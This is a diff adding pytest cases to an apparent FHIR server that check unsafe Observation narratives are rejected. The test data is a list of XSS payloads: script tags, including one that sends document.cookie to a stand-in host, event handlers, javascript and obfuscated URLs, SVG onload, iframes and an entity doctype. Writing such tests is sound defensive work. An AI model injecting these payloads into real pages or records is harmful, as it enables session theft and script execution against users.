@@ -408,3 +408,90 @@ def test_bad_ids_and_versions(client):
     _expect(client.get("/fhir/Patient/unknown"), 404, "not-found")
     _expect(client.get("/fhir/Patient/unknown/_history/x"), 404, "not-found")
     _expect(client.delete("/fhir/Patient/a%20b"), 400, "invalid")
+
+
+# ---------------------------------------------------------------------------- narratives
+
+XHTML = '<div xmlns="http://www.w3.org/1999/xhtml">'
+BAD_NARRATIVES = [
+    (
+        "script",
+        f"{XHTML}<p>Pain 3</p><script>fetch('https://x.example/'+document.cookie)</script></div>",
+    ),
+    ("event handler", f'{XHTML}<p onmouseover="alert(1)">Pain 3</p></div>'),
+    ("javascript url", f'{XHTML}<a href="javascript:alert(1)">Pain 3</a></div>'),
+    ("obfuscated url", f'{XHTML}<a href=" JaVa&#x09;Script:alert(1)">Pain 3</a></div>'),
+    (
+        "data url link",
+        f'{XHTML}<a href="data:text/html,&lt;script&gt;x()&lt;/script&gt;">3</a></div>',
+    ),
+    ("script in style", f'{XHTML}<p style="background:url(javascript:alert(1))">Pain 3</p></div>'),
+    ("iframe", f'{XHTML}<iframe src="https://x.example/"></iframe>Pain 3</div>'),
+    ("form", f'{XHTML}<form action="https://x.example/"><p>Pain 3</p></form></div>'),
+    ("svg", f'{XHTML}<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>Pain 3</div>'),
+    ("xlink", f'{XHTML}<a xmlns:x="http://www.w3.org/1999/xlink" x:href="y">Pain 3</a></div>'),
+    ("not xhtml namespace", "<div>Pain 3</div>"),
+    ("not a div", '<p xmlns="http://www.w3.org/1999/xhtml">Pain 3</p>'),
+    ("not well-formed", f"{XHTML}<p>Pain 3</div>"),
+    ("doctype", f'<!DOCTYPE div [<!ENTITY e "Pain 3">]>{XHTML}&e;</div>'),
+    ("processing instruction", f"{XHTML}<?php echo 1; ?>Pain 3</div>"),
+    ("no content (txt-2)", f"{XHTML}\n  <p> </p></div>"),
+]
+
+
+def _observation_with(div: str) -> dict[str, Any]:
+    return {
+        "resourceType": "Observation",
+        "text": {"status": "generated", "div": div},
+        "status": "final",
+        "code": {"coding": [{"system": "http://example.org/codes", "code": "note"}]},
+        "valueString": "fine",
+    }
+
+
+@pytest.mark.parametrize(("name", "div"), BAD_NARRATIVES, ids=[n for n, _ in BAD_NARRATIVES])
+def test_narratives_break_no_r4_rule(client, app, name, div):
+    before = store_snapshot(app)
+    response = client.post("/fhir/Observation", json=_observation_with(div))
+    _expect(response, 400, "invariant")
+    issues = response.json()["issue"]
+    assert {tuple(i["expression"]) for i in issues} == {("Observation.text.div",)}, issues
+    assert all(i["diagnostics"].startswith(("txt-1", "txt-2")) for i in issues), issues
+    assert store_snapshot(app) == before
+
+
+def test_narratives_are_checked_in_contained_and_bundled_resources(client, app):
+    script = f"{XHTML}<script>alert(1)</script>Pain 3</div>"
+    before = store_snapshot(app)
+    plan = {
+        "resourceType": "CarePlan",
+        "status": "draft",
+        "intent": "plan",
+        "subject": {"reference": "Patient/p1"},
+        "contained": [{**_observation_with(script), "id": "obs"}],
+    }
+    contained = client.post("/fhir/CarePlan", json=plan)
+    _expect(contained, 400, "invariant")
+    assert contained.json()["issue"][0]["expression"] == ["CarePlan.contained[0].text.div"]
+    entry = {"request": {"method": "POST", "url": "Observation"}}
+    bundle = {
+        "resourceType": "Bundle",
+        "type": "transaction",
+        "entry": [{**entry, "resource": _observation_with(script)}],
+    }
+    bundled = client.post("/fhir", json=bundle)
+    _expect(bundled, 400, "invariant")
+    assert bundled.json()["issue"][0]["expression"] == ["Bundle.entry[0].resource.text.div"]
+    assert store_snapshot(app) == before
+
+
+def test_narratives_with_formatting_images_and_html_entities_are_accepted(client):
+    div = (
+        f'{XHTML}<h3 class="x">Pain&nbsp;score</h3><p style="color: red" xml:lang="en">3 of 10'
+        '<br/><a href="https://example.org/scale">scale</a> &amp; <b>note</b></p>'
+        '<table><tbody><tr><td colspan="2">ok &#160;</td></tr></tbody></table>'
+        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="chart"/><!-- generated --></div>'
+    )
+    response = client.post("/fhir/Observation", json=_observation_with(div))
+    assert response.status_code == 201, response.text
+    assert client.get(response.headers["location"]).json()["text"]["div"] == div
